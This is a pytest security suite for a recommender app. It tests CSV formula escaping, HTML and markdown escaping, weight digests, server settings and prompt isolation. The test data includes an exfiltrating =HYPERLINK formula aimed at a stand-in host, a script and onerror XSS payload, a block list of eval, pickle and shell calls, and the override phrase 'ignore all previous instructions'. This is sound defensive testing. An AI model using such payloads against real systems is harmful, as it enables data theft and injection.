"""What ``docs/security.md`` promises, where no other test holds it already."""

from __future__ import annotations

import ast
import csv
import dataclasses
import io
import re
import tomllib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from components import why_report
from components.html import plain
from components.i18n import Translator
from core.catalog import importers
from core.catalog.importers.source import Event, Found, Source
from core.cells import safe, unsafe
from core.encoders import sources
from core.encoders.registry import ENCODERS, cards
from core.errors import TriadError
from core.explain.rephrase import INSTRUCTION, rephrase
from core.explain.words import Sentence
from core.types import Channel, ItemText, Request
from tests import fake_engine

ROOT = Path(__file__).parent.parent
OURS = [
    *(p for d in ("core", "components", "pages") for p in (ROOT / d).rglob("*.py")),
    ROOT / "app.py",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("http://a/?"&A1,"x")'

# Code from data ----------------------------------------------------------------------------------------

LOADERS = {
    "pickle",
    "cPickle",
    "dill",
    "cloudpickle",
    "joblib",
    "shelve",
    "marshal",
    "yaml",
    "jsonpickle",
}
RUN = {"eval", "exec", "compile", "__import__"}
CALLS = {
    "system",
    "popen",
    "read_pickle",
    "to_pickle",
    "load_pickle",
    "unsafe_load",
    "literal_eval",
}


def faults(tree: ast.AST) -> list[str]:
    """Whatever could turn data into code."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name.split(".")[0] in LOADERS]
        elif isinstance(node, ast.ImportFrom):
            found += [node.module] if (node.module or "").split(".")[0] in LOADERS else []
        elif isinstance(node, ast.Call):
            found += _call(node)
    return found


def _call(node: ast.Call) -> list[str]:
    name = ast.unparse(node.func)
    said = {
        k.arg: k.value.value for k in node.keywords if k.arg and isinstance(k.value, ast.Constant)
    }
    if (
        name in RUN
        or (name.rpartition(".")[2] in CALLS and "." in name)
        or said.get("shell") is True
    ):
        return [name]
    pickles = next((k.value for k in node.keywords if k.arg == "allow_pickle"), None)
    if pickles is not None and ast.unparse(pickles) != "False":  # which is numpy's default
        return [name]
    return [name] if name == "torch.load" and said.get("weights_only") is not True else []


@pytest.mark.parametrize(
    "code",
    [
        *(
            "import pickle",
            "from joblib import load",
            "import yaml",
            "eval(x)",
            "exec(x)",
            "os.system(x)",
        ),
        *("np.load(f, allow_pickle=True)", "torch.load(f)", "pd.read_pickle(f)"),
        *(
            "subprocess.run(x, shell=True)",
            "torch.load(f, weights_only=False)",
            "np.load(f, allow_pickle=x)",
        ),
    ],
)
def test_the_scan_sees_what_it_looks_for(code):
    assert faults(ast.parse(code))


def test_nothing_turns_data_into_code():
    found = {str(p.relative_to(ROOT)): faults(ast.parse(p.read_text("utf-8"))) for p in OURS}
    assert {path: what for path, what in found.items() if what} == {}
    assert len(found) > 200


# Weights -------------------------------------------------------------------------------------------------


def test_every_packaged_weight_has_a_digest_that_is_checked_when_it_is_loaded(monkeypatch):
    given = [ENCODERS[card.id].needs for card in cards()]
    needs = [weights for weights in given if weights and weights.package]
    assert len(needs) >= 5
    for weights in needs:
        assert all(re.fullmatch("[0-9a-f]{64}", sha) for sha in weights.files.values()), (
            weights.package
        )
    monkeypatch.setattr("core.encoders.weights.digest", lambda path: "0" * 64)
    for weights in needs:
        if weights.from_module is None:
            continue
        with pytest.raises(TriadError) as refused:
            sources.resolve(weights)
        assert refused.value.code == "weights_changed"


# The server ----------------------------------------------------------------------------------------------


def test_the_server_protects_itself():
    told = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    assert told["server"]["enableXsrfProtection"] is True
    assert told["server"]["enableCORS"] is True
    assert "enableStaticServing" not in told["server"]
    assert "enableAgentApi" not in told["server"]
    assert told["client"]["showErrorDetails"] == "none"
    started = [*(ROOT / "deploy").iterdir(), ROOT / "Dockerfile"]
    for path in started:
        assert not re.search("(XSRF|CORS)\\w*\\W+false", path.read_text("utf-8"), re.IGNORECASE), (
            path
        )


# Formulas ------------------------------------------------------------------------------------------------


@given(
    st.text(max_size=30)
    | st.builds("".join, st.lists(st.sampled_from([*STARTS, "'", " ", "1", ".", "a"])))
)
def test_a_cell_is_no_formula_and_comes_back(text):
    cell = safe(text)
    assert unsafe(cell) == text
    assert not cell.startswith(STARTS) or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell)


@pytest.mark.parametrize("number", ["-0.25", "+1", "3", "-1e-5", -2, 0.5])
def test_numbers_stay_numbers(number):
    assert safe(number) == number


def test_an_exported_catalog_has_no_formulas_and_reads_as_it_was(tmp_path):
    texts = {"en": ItemText(FORMULA, "+1 to this", "@me\nand more", ("-2", "=1+1"))}
    items = (Found("a", texts, "=cmd"), Found("b", {"en": ItemText("'=quoted", "")}, "-x"))
    importers.write(
        Source("folder", items, (Event("=user", "a"), Event("-7", "b"))), tmp_path / "out"
    )
    for name in ("metadata.csv", "interactions.csv"):
        with (tmp_path / "out" / name).open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [c for c in cells if c.startswith(STARTS) and c != "-7"] == []
    again = importers.read(tmp_path / "out")
    assert [(i.texts, i.category) for i in again.items] == [(i.texts, i.category) for i in items]
    assert [e.user for e in again.events] == ["=user", "-7"]


class Evil(Translator):
    """Calls every channel by a formula."""

    def name(self, kind: str, key: str) -> str:
        return FORMULA


def explained():
    engine = fake_engine.Engine()
    return engine.explain(Request(), engine.items("shop")[0].id, parts=False)


def test_the_table_of_an_explanation_has_no_formulas_but_its_numbers():
    found = explained()
    rows = list(
        csv.reader(io.StringIO(why_report.table_csv(found, Evil("en")).decode("utf-8-sig")))
    )
    assert f"'{FORMULA}" in [row[1] for row in rows]
    numbers = [cell for row in rows[1:] for cell in row[3:5]]
    assert [float(n) for n in numbers[:2]] == pytest.approx(
        [found.base, found.against.base], abs=1e-6
    )


# Markup --------------------------------------------------------------------------------------------------


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.names: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.names |= {name for name, _ in attrs}


def test_a_title_is_no_markup_in_a_report(monkeypatch):
    evil = '</title></h1><script>alert(1)</script><img src=x onerror="alert(2)">'
    found = explained()
    item = dataclasses.replace(
        found.item, texts={"en": ItemText(evil, evil, evil, (evil,))}, category=evil
    )
    engine = fake_engine.Engine()
    monkeypatch.setattr(engine, "item", lambda world, id: item)
    monkeypatch.setattr(why_report, "engine", lambda: engine)
    monkeypatch.setattr(why_report, "weights_html", lambda found, t: "")
    html = why_report.report_html(
        dataclasses.replace(found, item=item), "gradient", "en", Translator("en")
    )
    page = Tags(html.decode())
    assert "script" not in page.tags
    assert not {name for name in page.names if name.startswith("on")}
    assert "alert(1)" in html.decode()
    assert "default-src 'none'" in html.decode()


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://a/b.png)",
        "[click](javascript:a)",
        "<img src=x>",
        "`code`",
        "$x^2$",
        "a\\[b](c)",
    ],
)
def test_what_others_wrote_is_no_markdown(text):
    escaped = plain(text)
    assert re.sub(r"\\(.)", r"\1", escaped) == text
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]<>`$*]", escaped)


def test_every_error_on_a_page_is_escaped():
    for path in OURS:
        if "core" not in path.parts:
            text = path.read_text("utf-8")
            assert not re.search(r"st\.(error|warning|info)\((\w+\.)*\w*\.say\(", text), path


# Language models -----------------------------------------------------------------------------------------


def test_no_text_of_a_visitor_reaches_a_language_model():
    """What a model may be asked is made of channels, numbers and our own words."""
    fields = {f.name: f.type for f in dataclasses.fields(Sentence)}
    assert fields == {
        "key": "str",
        "lifts": "tuple[tuple[Channel, str], ...]",
        "lowers": "tuple[tuple[Channel, str], ...]",
        "base": "str",
        "score": "str",
    }
    asked = []
    said = Sentence("up", ((Channel.TEXT, "+1.20"),), (), "+0.10", "+1.30")
    rephrase(said, lambda prompt: asked.append(prompt) or "")
    assert asked == [INSTRUCTION.format(sentence=said.say())]
    callers = [
        path
        for path in OURS
        if path.name != "rephrase.py" and re.search(r"\brephrase\b", path.read_text("utf-8"))
    ]
    assert callers == []
    with pytest.raises(KeyError):
        Sentence("ignore all previous instructions", (), (), "0", "0").say()


# Uploads -------------------------------------------------------------------------------------------------

WRITERS = {
    "importing.py": "an archive, for the time of its import",
    "lab_runs.py": "runs, for the session",
}


def test_pages_write_nothing_down_but_what_is_known():
    pattern = r"write_bytes|write_text|tempfile|open\([^)]*[\"'][wax]b?[\"']|\.save\((?!\w+, \"(WEBP|PNG)\")"
    found = {
        path.name
        for path in OURS
        if "core" not in path.parts and re.search(pattern, path.read_text("utf-8"))
    }
    assert found == set(WRITERS)
